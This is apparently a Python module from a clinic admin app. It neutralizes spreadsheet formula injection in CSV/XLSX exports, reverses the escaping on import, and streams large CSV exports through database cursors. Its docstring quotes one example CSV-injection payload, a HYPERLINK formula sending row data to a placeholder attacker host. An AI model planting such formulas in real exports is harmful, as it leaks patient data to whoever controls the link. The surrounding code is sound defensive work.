"""Spreadsheet-safe export cells (DESIGN.md, "Import and export").

A spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or
``@`` as a formula, and a leading tab or carriage return can hide such a text
from a reviewer's eye. A patient named ``=HYPERLINK("http://evil.example/?x="&A2,
"Click me")`` would otherwise leak the row to whoever clicks it ("CSV injection",
OWASP). Every admin export therefore writes such a text with a leading
apostrophe, in CSV and XLSX alike (``ClinicModelAdmin.get_data_for_export``):

- CSV: ``'=HYPERLINK(...)`` is text to Excel, LibreOffice and Google Sheets;
- XLSX: the cell is a plain string (not a formula cell) reading ``'=HYPERLINK(...)``.

Only text cells are touched: empty cells and any value a widget writes natively
(a number, a date) keep their type. import-export's own ``IMPORT_EXPORT_ESCAPE_FORMULAE_ON_EXPORT``
(4.4.3) is not used: it only drops a leading ``=``, leaves ``+``, ``-`` and
``@`` alone, and turns every XLSX cell into text (an empty cell becomes "None").

Import undoes it (:func:`restore_formula`, used by ``admin_ext.imports.resources.TextWidget``),
so an exported file reads back unchanged: ``'+1 617 555 0100`` is imported as
``+1 617 555 0100``. What was imported is escaped again on the next export.

Streaming (DESIGN.md, "Performance targets": 1,000,000 patients, peak memory under
300 MB). import-export 4.4.3 builds an export as one ``tablib.Dataset`` holding
every row, then the whole file as one string: at a million patients, gigabytes.
:func:`stream_csv` writes the same CSV a chunk of rows at a time instead, reading
the rows through one database cursor (:func:`iterate_rows`) with the relations the
export reads joined in (:func:`export_relations`), so neither memory nor the number
of queries grows with the rows. ``ClinicModelAdmin`` streams every CSV export
through it; a format built in memory (XLSX) is refused above
``settings.EXPORT_MAX_XLSX_ROWS`` rows (:func:`check_in_memory_export`).
"""

import csv
import functools
import io
from collections.abc import Iterable, Iterator

import tablib
from django.conf import settings
from django.core.exceptions import FieldDoesNotExist
from django.db import connections, transaction
from django.db.models import QuerySet
from import_export.resources import Resource
from import_export.widgets import ForeignKeyWidget

#: Leading characters that make a spreadsheet read a cell as a formula (OWASP).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def neutralize_formula(value):
    """``value`` with an apostrophe before a leading formula character; others unchanged.

    ``"=1+1"`` -> ``"'=1+1"``; ``"Ann"``, ``None``, dates and numbers are returned as given.
    """
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def restore_formula(text: str) -> str:
    """Undo :func:`neutralize_formula` on an imported cell: ``"'=1+1"`` -> ``"=1+1"``.

    Only an apostrophe followed by a formula character is dropped; any other text
    (``"'Tis"``, ``"O'Keefe"``) is returned as given.
    """
    if text.startswith("'") and text[1:].startswith(FORMULA_TRIGGERS):
        return text[1:]
    return text


def escape_formulae(dataset: tablib.Dataset) -> tablib.Dataset:
    """Pass every cell of ``dataset`` through :func:`neutralize_formula`, in place.

    Only rows holding such a cell are rewritten, so an export costs no second copy
    of its data. The headers (column names from the Resource, never user data) are
    kept as they are. Returns ``dataset``.
    """
    for index, row in enumerate(dataset):
        escaped = [neutralize_formula(value) for value in row]
        if escaped != list(row):
            dataset[index] = escaped
    return dataset


# -- streaming CSV ----------------------------------------------------------------------

#: Rows fetched per database round trip, and written per chunk of the response.
EXPORT_CHUNK_SIZE = 2000

#: Default of ``settings.EXPORT_MAX_XLSX_ROWS``: the most rows an in-memory export holds.
DEFAULT_MAX_XLSX_ROWS = 100_000

MSG_TOO_MANY_ROWS = (
    "This list has more than %(limit)s rows, too many for an %(format)s file. "
    "Export it as CSV, which has no such limit, or narrow the list with a search "
    "or a filter first."
)


class ExportTooLarge(ValueError):
    """An in-memory export (XLSX) of more rows than ``settings.EXPORT_MAX_XLSX_ROWS``.

    A ``ValueError`` because that is what import-export's ``export_action`` shows
    as an error message on the export form, instead of a server error.
    """


def check_in_memory_export(queryset, file_format) -> None:
    """Refuse to build an export of ``queryset`` in memory when it has too many rows.

    An XLSX file is built whole in memory (the library's Dataset of every row, then
    openpyxl's workbook of every cell, then the file), so its memory grows with
    each row. At most ``settings.EXPORT_MAX_XLSX_ROWS`` rows (default
    :data:`DEFAULT_MAX_XLSX_ROWS`) are exported so. Counted by one query that stops
    at the limit plus one row.

    Args: the export's queryset (or a list); the import-export format instance (its
    extension names the format in the message). Returns None. Raises
    :class:`ExportTooLarge` (:data:`MSG_TOO_MANY_ROWS`) above the limit.
    """
    limit = getattr(settings, "EXPORT_MAX_XLSX_ROWS", DEFAULT_MAX_XLSX_ROWS)
    if isinstance(queryset, QuerySet):
        rows = queryset.order_by()[: limit + 1].count()
    else:
        rows = len(queryset)
    if rows > limit:
        raise ExportTooLarge(
            MSG_TOO_MANY_ROWS
            % {"limit": f"{limit:,}", "format": file_format.get_extension().upper()}
        )


def export_relations(resource, fields: Iterable) -> list[str]:
    """The relations exporting ``fields`` reads, as ``select_related`` lookups.

    A resource may declare them (``export_select_related = ["primary_doctor"]``),
    e.g. for what a ``dehydrate_<field>`` method reads; otherwise they are derived
    from each field's ``attribute`` followed by its ``ForeignKeyWidget.field``:
    ``primary_doctor`` rendered as the doctor's ``external_id`` gives
    ``"primary_doctor"``, an ``organization__name`` attribute ``"organization"``.
    Only single-valued relations (foreign keys, one-to-ones) are joined; an
    ``<fk>_id`` attribute needs no join. Returns the lookups sorted (maybe none).
    """
    declared = getattr(resource, "export_select_related", None)
    if declared is not None:
        return list(declared)
    model = resource._meta.model
    lookups = set()
    for field in fields:
        if not field.attribute:
            continue
        parts = field.attribute.split("__")
        widget = field.widget
        if isinstance(widget, ForeignKeyWidget) and not widget.key_is_id and widget.field:
            parts += widget.field.split("__")
        path, current = [], model
        for part in parts:
            try:
                model_field = current._meta.get_field(part)
            except FieldDoesNotExist:
                break
            single = model_field.many_to_one or model_field.one_to_one
            if not single or part != model_field.name:  # a value, or the <fk>_id column
                break
            path.append(part)
            current = model_field.related_model
        if path:
            lookups.add("__".join(path))
    return sorted(lookups)


def iterate_rows(queryset, *, chunk_size: int = EXPORT_CHUNK_SIZE) -> Iterator:
    """``queryset``'s rows in its order, fetched ``chunk_size`` at a time, none kept.

    - SQLite: ``QuerySet.iterator()``, one cursor fetching ``chunk_size`` rows at a
      time. No transaction: with this project's ``transaction_mode=IMMEDIATE`` one
      would hold the write lock for the whole download.
    - PostgreSQL: ``QuerySet.iterator()`` on a server-side cursor, one query
      whatever the size, inside a transaction. Outside one (autocommit: with
      ``ATOMIC_REQUESTS`` off, and even with it on, since the view's transaction
      has ended before a streamed body is read) Django declares the cursor
      ``WITH HOLD``, and PostgreSQL then runs the whole query and stores its
      result before returning the first row.
    - PostgreSQL with ``DISABLE_SERVER_SIDE_CURSORS`` (a transaction-pooling
      pgbouncer): ``iterator()`` would load the whole result into client memory,
      so the primary keys are read first (a few bytes a row), then the rows
      ``chunk_size`` keys at a time, in the queryset's order: one query more per
      ``chunk_size`` rows. A row deleted meanwhile is left out.

    A plain iterable (not a QuerySet) is iterated as it is. Database errors are
    raised from the iteration.
    """
    if not isinstance(queryset, QuerySet):
        yield from queryset
        return
    connection = connections[queryset.db]
    if connection.vendor != "postgresql":
        yield from queryset.iterator(chunk_size=chunk_size)
        return
    with transaction.atomic(using=queryset.db):
        if not connection.settings_dict.get("DISABLE_SERVER_SIDE_CURSORS"):
            yield from queryset.iterator(chunk_size=chunk_size)
            return
        keys = list(queryset.values_list("pk", flat=True))
        for start in range(0, len(keys), chunk_size):
            # The admin's ordering is total (the changelist ends it with the primary
            # key), so a run of consecutive keys reads back in the same order.
            yield from queryset.filter(pk__in=keys[start : start + chunk_size])


def _row_renderer(resource, fields: list, export_fields, kwargs: dict):
    """``render(obj) -> list`` of cells, as ``resource.export_resource(obj, ...)`` makes them.

    When the resource keeps import-export 4.4.3's ``export_resource`` and
    ``export_field``, what they work out per cell (the field's name, found by a
    scan of every field, and its ``dehydrate_<field>`` method) is worked out once
    here: at a million rows of 23 columns that scan alone is 500 million
    comparisons. Each cell is then what ``export_field`` returns: the dehydrate
    method's value if the resource has one, else ``field.export(obj, **kwargs)``.
    A resource that overrides either method is called through it, row by row.
    """
    if (
        type(resource).export_resource is not Resource.export_resource
        or type(resource).export_field is not Resource.export_field
    ):
        return lambda obj: resource.export_resource(obj, selected_fields=export_fields, **kwargs)
    cells = []
    for field in fields:
        dehydrate = field.get_dehydrate_method(resource.get_field_name(field))
        method = dehydrate if callable(dehydrate) else getattr(resource, dehydrate, None)
        cells.append(method if method is not None else functools.partial(field.export, **kwargs))
    return lambda obj: [cell(obj) for cell in cells]


def stream_csv(
    resource,
    queryset,
    *,
    chunk_size: int = EXPORT_CHUNK_SIZE,
    export_fields: list[str] | None = None,
    **kwargs,
) -> Iterator[str]:
    """The CSV export of ``queryset`` by ``resource``, as text chunks made while read.

    The text is what import-export 4.4.3 writes for ``resource.export(queryset,
    export_fields=..., **kwargs)`` in its ``CSV`` format, with formulas neutralized
    as in every admin export (:func:`neutralize_formula`): the header (the
    resource's export headers), then one line per row, each cell rendered by the
    resource's ``export_field`` (its widgets and ``dehydrate_<field>`` methods)
    with ``kwargs`` passed on as the library passes them. The syntax is RFC 4180
    as Python's ``csv`` module writes its ``excel`` dialect, as tablib does:
    comma-separated, CRLF line ends, a field quoted only when it holds a comma,
    a quote or a line break. The resource's ``before_export`` and ``filter_export``
    run as in ``export()``; ``after_export`` does not (it takes the whole dataset,
    which is never built).

    Args: ``resource``, an import-export ``Resource`` instance, made for the
    exporting user (clinic resources mask SSNs for users without
    ``clinic.view_ssn``); ``queryset``, the rows in file order (a QuerySet; any
    iterable works, without the joins); ``chunk_size``, rows per database fetch and
    per chunk; ``export_fields``, the field names chosen on the export form (None:
    every export field). Returns an iterator of ``str`` chunks: the header line,
    then up to ``chunk_size`` lines each. Nothing is read from the database before
    the first chunk is asked for; database errors are raised from the iteration.
    """
    kwargs = {"export_fields": export_fields, **kwargs}
    resource.before_export(queryset, **kwargs)
    queryset = resource.filter_export(queryset, **kwargs)
    fields = resource.get_export_fields(export_fields)
    if isinstance(queryset, QuerySet):
        relations = export_relations(resource, fields)
        if relations:
            queryset = queryset.select_related(*relations)

    render = _row_renderer(resource, fields, export_fields, kwargs)

    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=",")

    def flush() -> str:
        text = buffer.getvalue()
        buffer.seek(0)
        buffer.truncate()
        return text

    writer.writerow(resource.get_export_headers(selected_fields=export_fields))
    yield flush()
    pending = 0
    for obj in iterate_rows(queryset, chunk_size=chunk_size):
        writer.writerow([neutralize_formula(value) for value in render(obj)])
        pending += 1
        if pending == chunk_size:
            yield flush()
            pending = 0
    if pending:
        yield flush()
